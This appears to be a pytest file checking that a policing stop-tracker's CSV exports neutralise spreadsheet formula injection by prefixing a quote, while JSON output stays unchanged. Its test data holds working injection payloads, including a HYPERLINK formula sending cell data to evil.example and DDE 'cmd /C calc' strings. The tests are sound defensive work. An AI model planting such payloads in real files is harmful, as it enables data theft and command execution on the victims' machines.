"""Spreadsheet formula injection: a text cell that a spreadsheet would read as a formula is
written to CSV with a leading single quote (OWASP's advice), by the one CSV writer every
command, download and export uses; numbers, ordinary text and JSON are written as before."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from tracker.accounts.users import create_user
from tracker.cli import main
from tracker.foundation.database import make_engine, session_factory
from tracker.foundation.tables import write_table
from tracker.stops.records import create_stop
from web import create_app

PASSWORD = "correct horse battery"
# A formula after each character a spreadsheet starts a formula with (OWASP's list).
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
)


def csv_of(frame: pd.DataFrame) -> str:
    out = io.StringIO()
    write_table(frame, "csv", out)
    return out.getvalue()


def json_of(frame: pd.DataFrame) -> list[dict]:
    out = io.StringIO()
    write_table(frame, "json", out)
    return json.loads(out.getvalue())


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --- the writer -------------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_cell_starting_a_formula_is_prefixed_with_a_quote(value):
    frame = pd.DataFrame({"name": [value, "Arrest"], "visits": [1, 2]})
    (first, second) = cells(csv_of(frame))
    # (a lone carriage return also gains a line feed: see the test of embedded ones)
    assert first == {"name": "'" + value.replace("\r", "\r\n"), "visits": "1"}
    assert second == {"name": "Arrest", "visits": "2"}


@pytest.mark.parametrize("value", DANGEROUS)
def test_json_keeps_the_text_as_it_is(value):
    frame = pd.DataFrame({"name": [value], "visits": [1]})
    assert json_of(frame) == [{"name": value, "visits": 1}]


def test_every_dangerous_cell_of_every_text_column_is_prefixed():
    frame = pd.DataFrame(
        {
            "a": ["=1", "ok", None, "@x"],
            "b": ["plain", "+1+1", "-x", "  =not first"],
        }
    )
    assert cells(csv_of(frame)) == [
        {"a": "'=1", "b": "plain"},
        {"a": "ok", "b": "'+1+1"},
        {"a": "", "b": "'-x"},
        {"a": "'@x", "b": "  =not first"},
    ]


def test_negative_numbers_in_numeric_columns_are_written_unchanged():
    frame = pd.DataFrame(
        {
            "longitude": [-1.13331, -0.5, 2.25],
            "delta": np.array([-3, 0, 4], dtype=np.int64),
            "shortfall_minutes": [-1.5, 0.0, 12.345],
            "nullable": pd.array([-7, None, 1], dtype="Int64"),
        }
    )
    assert csv_of(frame) == (
        "longitude,delta,shortfall_minutes,nullable\n"
        "-1.13331,-3,-1.50,-7\n"
        "-0.5,0,0.00,\n"
        "2.25,4,12.35,1\n"
    )


def test_numbers_in_a_mixed_column_stay_numbers():
    frame = pd.DataFrame({"value": [-1.5, -3, None, "=1+1"], "n": [1, 2, 3, 4]}, dtype=object)
    assert csv_of(frame) == "value,n\n-1.5,1\n-3,2\n,3\n'=1+1,4\n"


@pytest.mark.parametrize("value", ["-12", "+3", "-1.5", "-0.25e3", "-.5", "+12."])
def test_text_that_is_a_plain_number_is_left_as_the_number(value):
    # A spreadsheet reads it as that number: nothing runs, and the figure keeps its value.
    frame = pd.DataFrame({"reference": [value]})
    assert csv_of(frame) == f"reference\n{value}\n"


@pytest.mark.parametrize("value", ["-12+1", "-1,5", "+1 ", "-0x10", "-inf", "-nan", "- 1", "-1e"])
def test_text_that_only_looks_like_a_number_is_prefixed(value):
    frame = pd.DataFrame({"reference": [value]})
    assert cells(csv_of(frame)) == [{"reference": "'" + value}]


def test_a_lone_carriage_return_inside_text_cannot_start_a_new_row():
    # Unquoted, a spreadsheet ends the row at a CR and reads what follows as a new first cell.
    frame = pd.DataFrame({"grounds": ["smelt of cannabis\r=1+1", "two\r\nlines"], "n": [1, 2]})
    assert csv_of(frame) == 'grounds,n\n"smelt of cannabis\r\n=1+1",1\n"two\r\nlines",2\n'


def test_a_dangerous_header_is_prefixed_too():
    frame = pd.DataFrame({"=cmd": ["x"], "ok": ["y"]})
    assert csv_of(frame).splitlines()[0] == "'=cmd,ok"


def test_ordinary_tables_are_written_byte_for_byte_as_before():
    frame = pd.DataFrame(
        {
            "hotspot_id": ["LE01", "LE02"],
            "date": [pd.Timestamp("2019-06-01"), pd.Timestamp("2019-06-02")],
            "occurred_at": pd.to_datetime(["2019-06-01T12:00:00Z", "2019-06-02T08:30:15Z"]),
            "presence_minutes": [12.5, 0.0],
            "latitude": [52.636675, 52.634475],
            "longitude": [-1.13331, -1.13109],
            "visits": [3, 0],
            "outcome": ["A no further action disposal", "Arrest, charged"],
            "linked": [True, None],
            "note": ['with "quotes"\nand a line', ""],
        }
    )
    assert csv_of(frame) == (
        "hotspot_id,date,occurred_at,presence_minutes,latitude,longitude,visits,outcome,"
        "linked,note\n"
        "LE01,2019-06-01T00:00:00Z,2019-06-01T12:00:00Z,12.50,52.636675,-1.13331,3,"
        'A no further action disposal,True,"with ""quotes""\nand a line"\n'
        "LE02,2019-06-02T00:00:00Z,2019-06-02T08:30:15Z,0.00,52.634475,-1.13109,0,"
        '"Arrest, charged",,\n'
    )


def test_the_frame_given_is_not_changed():
    frame = pd.DataFrame({"name": ["=1"]})
    csv_of(frame)
    assert frame["name"].tolist() == ["=1"]


# --- through the command line and the web app -------------------------------------------

STOP_FIELDS = {
    "type": "Person search",
    "reference": '=HYPERLINK("http://evil.example","S1")',
    "policing_operation": "+cmd|' /C calc'!A0",
    "object_of_search": "@SUM(1+9)",
    "outcome": "-2+3",
    "officer_id": "PC1",
    "latitude": 52.636675,
    "longitude": -1.13331,
}
TEXT = ("reference", "policing_operation", "object_of_search", "outcome")
NEUTRALISED = {
    "reference": "'" + STOP_FIELDS["reference"],
    "policing_operation": "'" + STOP_FIELDS["policing_operation"],
    "object_of_search": "'" + STOP_FIELDS["object_of_search"],
    "outcome": "'" + STOP_FIELDS["outcome"],
    # The export writes coordinates as text (their exact digits): a plain number is kept.
    "latitude": "52.636675",
    "longitude": "-1.13331",
}


@pytest.fixture
def stored(database_url):
    """A migrated database holding one stop whose text would run in a spreadsheet."""
    engine = make_engine(database_url)
    with session_factory(engine).begin() as session:
        create_user(session, "assurance", "assurance", PASSWORD)
        create_stop(
            session,
            {**STOP_FIELDS, "occurred_at": datetime.now(UTC) - timedelta(days=1)},
            actor="test",
        )
    engine.dispose()
    return database_url


def test_the_command_line_stop_export_neutralises_formulas(stored):
    result = CliRunner().invoke(main, ["stops", "export", "--format", "csv", "--db", stored])
    assert result.exit_code == 0, result.output
    (exported,) = cells(result.stdout)
    assert {k: exported[k] for k in NEUTRALISED} == NEUTRALISED
    as_json = CliRunner().invoke(main, ["stops", "export", "--format", "json", "--db", stored])
    (record,) = json.loads(as_json.stdout)
    assert {k: record[k] for k in TEXT} == {k: STOP_FIELDS[k] for k in TEXT}


def signed_in(app, username: str):
    client = app.test_client()
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get("/login").text)
    assert token, "no CSRF token on the log-in page"
    response = client.post(
        "/login", data={"username": username, "password": PASSWORD, "csrf_token": token.group(1)}
    )
    assert response.status_code == 302, response.text
    return client


@pytest.fixture
def app(stored):
    app = create_app({"TESTING": True, "DATABASE_URL": stored})
    yield app
    app.extensions["tracker.sessions"].kw["bind"].dispose()


def test_web_csv_downloads_neutralise_formulas_and_the_api_does_not(app):
    client = signed_in(app, "assurance")
    response = client.get("/assurance/?format=csv&table=stops")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    (exported,) = cells(response.text)
    assert {k: exported[k] for k in NEUTRALISED} == NEUTRALISED
    objects = cells(client.get("/assurance/?format=csv&table=objects").text)
    assert "'@SUM(1+9)" in {row["object_of_search"] for row in objects}
    (record,) = client.get("/api/stops").json
    assert {k: record[k] for k in TEXT} == {k: STOP_FIELDS[k] for k in TEXT}


def test_a_missing_time_is_null_in_json_and_empty_in_csv():
    # NaT is a datetime too; its isoformat() would give the string "NaT".
    frame = pd.DataFrame(
        {"name": ["a", "b"], "expires_at": [pd.Timestamp("2026-12-07T10:00:00Z"), None]}
    )
    out = io.StringIO()
    write_table(frame, "json", out)
    assert json.loads(out.getvalue()) == [
        {"name": "a", "expires_at": "2026-12-07T10:00:00Z"},
        {"name": "b", "expires_at": None},
    ]
    out = io.StringIO()
    write_table(frame, "csv", out)
    assert out.getvalue() == "name,expires_at\na,2026-12-07T10:00:00Z\nb,\n"
